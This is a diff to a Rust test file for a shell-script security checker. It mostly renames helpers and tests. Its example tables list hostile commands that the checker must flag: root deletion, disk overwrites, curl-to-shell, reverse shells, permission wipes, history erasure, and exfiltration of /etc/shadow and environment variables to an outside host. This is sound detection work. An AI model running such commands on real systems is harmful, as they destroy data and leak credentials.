@@ -1,46 +1,46 @@
-//! Each rule with scripts in which it holds, and with ordinary ones in which it does not.
+//! Scripts that each rule reports, and ordinary ones that it does not.
 #![allow(clippy::too_many_lines, reason = "tables of examples")]
 
-use super::check as look;
+use super::check;
 use ringfence_types::Severity::{self, Error, Info, Warning};
 
-fn told(code: &str) -> Vec<(&'static str, Severity)> {
-    let checked = look(code);
-    let mut told: Vec<_> = checked
+fn findings(code: &str) -> Vec<(&'static str, Severity)> {
+    let checked = check(code);
+    let mut findings: Vec<_> = checked
         .findings
         .iter()
         .map(|finding| (finding.rule.id.trim_start_matches("shell."), finding.severity))
         .collect();
-    told.sort();
-    told.dedup();
-    told
+    findings.sort();
+    findings.dedup();
+    findings
 }
 
-/// The rule holds with this severity, whatever else is told.
+/// Asserts that the rule is reported with this severity, among other findings.
 #[track_caller]
-pub(super) fn found(rule: &str, severity: Severity, codes: &[&str]) {
+pub(super) fn assert_found(rule: &str, severity: Severity, codes: &[&str]) {
     for code in codes {
-        let told = told(code);
-        assert!(told.contains(&(rule, severity)), "{code}\n{told:?}");
+        let findings = findings(code);
+        assert!(findings.contains(&(rule, severity)), "{code}\n{findings:?}");
     }
 }
 
-/// Nothing is worse than this.
+/// Asserts that no finding is more severe than this.
 #[track_caller]
-fn at_most(severity: Severity, codes: &[&str]) {
+fn assert_at_most(severity: Severity, codes: &[&str]) {
     for code in codes {
-        let told = told(code);
+        let findings = findings(code);
         assert!(
-            told.iter().all(|(_, found)| *found <= severity),
-            "{code}\n{told:?}"
+            findings.iter().all(|(_, found)| *found <= severity),
+            "{code}\n{findings:?}"
         );
     }
 }
 
 #[rustfmt::skip]
 #[test]
-fn removal_of_everything_is_found_however_it_is_written() {
-    found(
+fn removal_of_root_is_found_in_all_spellings() {
+    assert_found(
         "remove_root",
         Error,
         &[
@@ -69,7 +69,7 @@ fn removal_of_everything_is_found_however_it_is_written() {
             "find . -exec sh -c 'rm -rf /' \\;", "rm 2>/dev/null -rf /", "rm -rf /;:",
         ],
     );
-    at_most(
+    assert_at_most(
         Info,
         &[
             "rm -rf ./build", "rm -rf build dist *.egg-info", "rm -rf /tmp/work", "rm -rf \"$tmp\"",
@@ -88,8 +88,8 @@ fn removal_of_everything_is_found_however_it_is_written() {
 
 #[rustfmt::skip]
 #[test]
-fn disks_and_file_systems_are_guarded() {
-    found(
+fn device_writes_and_formatting_are_found() {
+    assert_found(
         "device_write",
         Error,
         &[
@@ -98,7 +98,7 @@ fn disks_and_file_systems_are_guarded() {
             "sudo sh -c 'cat /dev/urandom > /dev/mem'",
         ],
     );
-    found(
+    assert_found(
         "format_device",
         Error,
         &[
@@ -106,8 +106,8 @@ fn disks_and_file_systems_are_guarded() {
             "mkswap /dev/sdb", "cryptsetup luksFormat /dev/sdc",
         ],
     );
-    found("format_device", Warning, &["mkfs.ext4 \"$1\""]);
-    at_most(
+    assert_found("format_device", Warning, &["mkfs.ext4 \"$1\""]);
+    assert_at_most(
         Info,
         &[
             "dd if=/dev/zero of=disk.img bs=1M count=1", "dd if=/dev/urandom of=/dev/null", "echo x > /dev/null 2>&1",
@@ -118,8 +118,8 @@ fn disks_and_file_systems_are_guarded() {
 
 #[rustfmt::skip]
 #[test]
-fn what_is_downloaded_or_decoded_and_run_is_found() {
-    found(
+fn downloaded_or_decoded_code_that_runs_is_found() {
+    assert_found(
         "download_and_run",
         Warning,
         &[
@@ -132,7 +132,7 @@ fn what_is_downloaded_or_decoded_and_run_is_found() {
             "{ curl x; } | sh", "c=curl; $c x | sh", "curl x | env A=1 bash",
         ],
     );
-    found(
+    assert_found(
         "encoded_run",
         Warning,
         &[
@@ -140,7 +140,7 @@ fn what_is_downloaded_or_decoded_and_run_is_found() {
             "eval \"$(echo x | xxd -r -p)\"", "bash <(openssl enc -d -in x)",
         ],
     );
-    at_most(
+    assert_at_most(
         Info,
         &[
             "curl -o x.tar.gz https://example.com/x.tar.gz && tar xf x.tar.gz",
@@ -153,8 +153,8 @@ fn what_is_downloaded_or_decoded_and_run_is_found() {
 
 #[rustfmt::skip]
 #[test]
-fn whoever_is_let_in_is_found() {
-    found(
+fn reverse_shells_are_found() {
+    assert_found(
         "reverse_shell",
         Error,
         &[
@@ -174,7 +174,7 @@ fn whoever_is_let_in_is_found() {
             "python3 <<E\nimport socket, subprocess\nE",
         ],
     );
-    at_most(
+    assert_at_most(
         Info,
         &[
             "nc -z localhost 80", "echo > /dev/tcp/localhost/80", "(echo > /dev/tcp/localhost/80) && echo up",
@@ -186,8 +186,8 @@ fn whoever_is_let_in_is_found() {
 
 #[rustfmt::skip]
 #[test]
-fn rights_processes_and_the_machine_are_guarded() {
-    found(
+fn permission_process_and_system_changes_are_found() {
+    assert_found(
         "permissions",
         Warning,
         &[
@@ -195,14 +195,14 @@ fn rights_processes_and_the_machine_are_guarded() {
             "chown -R nobody dir", "setcap cap_net_raw+ep x", "m=777; chmod $m x",
         ],
     );
-    found(
+    assert_found(
         "permissions",
         Error,
         &[
             "chmod -R 777 /", "chmod -R 000 /etc", "chown -R me /", "chown -R me: ~",
         ],
     );
-    found(
+    assert_found(
         "kill_all",
         Error,
         &[
@@ -210,12 +210,12 @@ fn rights_processes_and_the_machine_are_guarded() {
             "sudo kill -9 -1",
         ],
     );
-    found(
+    assert_found(
         "kill_by_name",
         Warning,
         &["killall node", "pkill -f server", "fuser -k 80/tcp"],
     );
-    found(
+    assert_found(
         "power",
         Warning,
         &[
@@ -223,7 +223,7 @@ fn rights_processes_and_the_machine_are_guarded() {
             "echo b > /proc/sysrq-trigger", "/sbin/reboot -f",
         ],
     );
-    found(
+    assert_found(
         "schedule",
         Warning,
         &[
@@ -231,7 +231,7 @@ fn rights_processes_and_the_machine_are_guarded() {
             "systemctl enable x", "at now + 1 minute <<< x",
         ],
     );
-    found(
+    assert_found(
         "system_settings",
         Warning,
         &[
@@ -240,10 +240,11 @@ fn rights_processes_and_the_machine_are_guarded() {
             "echo 1.2.3.4 x >> /etc/hosts", "docker run --privileged x", "docker run -v /:/host x",
         ],
     );
-    at_most(
+    assert_at_most(
         Info,
         &[
             "chmod +x run.sh", "chmod 755 x", "chmod 644 a b", "chmod 1777 x", "chmod u=rwx,go=rx x", "chmod -x y",
+            "chmod -x 777", "chmod -w -- 777",
             "chown me x", "kill $!", "kill -9 \"$pid\"", "kill -1 123", "kill -0 $pid", "crontab -l", "mount",
             "ip addr show", "sysctl kernel.hostname", "systemctl status x", "docker run -v \"$PWD\":/src x", "init",
             "echo reboot", "iptables -L",
@@ -253,8 +254,8 @@ fn rights_processes_and_the_machine_are_guarded() {
 
 #[rustfmt::skip]
 #[test]
-fn what_stays_and_what_is_secret_is_guarded() {
-    found(
+fn persistence_and_credential_access_are_found() {
+    assert_found(
         "startup_files",
         Warning,
         &[
@@ -269,7 +270,7 @@ fn what_stays_and_what_is_secret_is_guarded() {
             "echo x > /etc/ld.so.preload",
         ],
     );
-    found(
+    assert_found(
         "credential_path",
         Warning,
         &[
@@ -278,7 +279,7 @@ fn what_stays_and_what_is_secret_is_guarded() {
             "curl http://169.254.169.254/latest/meta-data/", "cp /home/a/.kube/config x",
         ],
     );
-    found(
+    assert_found(
         "exfiltration",
         Warning,
         &[
@@ -287,7 +288,7 @@ fn what_stays_and_what_is_secret_is_guarded() {
             "curl \"https://x.y/?k=$(cat /etc/shadow | base64)\"", "printenv | base64 | curl -d @- x",
         ],
     );
-    found(
+    assert_found(
         "history",
         Warning,
         &[
@@ -295,7 +296,7 @@ fn what_stays_and_what_is_secret_is_guarded() {
             "rm ~/.bash_history", "ln -sf /dev/null ~/.bash_history", "> /var/log/auth.log", "set +o history",
         ],
     );
-    found(
+    assert_found(
         "loader",
         Warning,
         &[
@@ -303,7 +304,7 @@ fn what_stays_and_what_is_secret_is_guarded() {
             "NODE_OPTIONS='--require ./x.js' node y",
         ],
     );
-    found(
+    assert_found(
         "dynamic_execution",
         Warning,
         &[
@@ -311,7 +312,7 @@ fn what_stays_and_what_is_secret_is_guarded() {
             "python3 -c \"$code\"",
         ],
     );
-    at_most(
+    assert_at_most(
         Info,
         &[
             "echo x >> out.bashrc.txt", "source ~/.bashrc", "cat ~/.bashrc", "chmod 600 ~/.ssh/id_rsa",
@@ -325,9 +326,9 @@ fn what_stays_and_what_is_secret_is_guarded() {
 
 #[rustfmt::skip]
 #[test]
-fn a_broken_script_is_an_error_and_a_strange_one_is_not() {
-    found("syntax", Error, &["if true; then echo", "echo 'open", "echo )"]);
-    at_most(
+fn syntax_error_is_an_error_and_unusual_syntax_is_not() {
+    assert_found("syntax", Error, &["if true; then echo", "echo 'open", "echo )"]);
+    assert_at_most(
         Info,
         &[
             "", "#!/bin/bash\n", "exec 3<>file; echo x >&3; exec 3>&-", "shopt -s extglob; ls !(a|b)",
@@ -350,8 +351,8 @@ fn a_broken_script_is_an_error_and_a_strange_one_is_not() {
 
 #[rustfmt::skip]
 #[test]
-fn counts_are_those_of_the_script() {
-    let checked = look(
+fn analysis_counts_match_the_script() {
+    let checked = check(
         "source ./lib.sh\n. /etc/os-release\nf() { :; }\nfunction g { :; }\nif a; then b; elif c; then d; fi\nwhile x; do y; done\n\
          case $1 in a) ;; b) ;; esac\na && b || c\ncurl https://api.example.com/v1\ncurl -o page.html www.example.org/x\nnc db.example.net 5432\n",
     );
@@ -363,9 +364,9 @@ fn counts_are_those_of_the_script() {
 }
 
 #[test]
-fn a_finding_within_a_quoted_text_has_its_own_place() {
+fn finding_in_a_quoted_script_has_its_own_range() {
     let place = |code: &str| {
-        let checked = look(code);
+        let checked = check(code);
         let finding = checked
             .findings
             .iter()
@@ -382,7 +383,7 @@ fn a_finding_within_a_quoted_text_has_its_own_place() {
 
 #[rustfmt::skip]
 #[test]
-fn hostile_texts_end_in_time() {
+fn hostile_scripts_end_in_time() {
     let mut doubling = "x0='eval eval'\n".to_owned();
     for step in 1..200 {
         doubling.push_str(&format!("x{step}=\"$x{0} $x{0}\"\neval \"$x{step}\"\n", step - 1));
@@ -422,9 +423,9 @@ fn hostile_texts_end_in_time() {
         &"x[".repeat(12_000),
     ] {
         let started = crate::processor_time::processor_time();
-        look(code);
+        check(code);
         let took = crate::processor_time::processor_time() - started;
-        // Debug builds are some twenty times slower.
+        // Debug builds are about twenty times slower.
         assert!(took.as_secs() < 20, "{took:?} {:?}", &code[..code.len().min(30)]);
         eprintln!("{took:?} {:?}", code.get(..30.min(code.len())));
     }
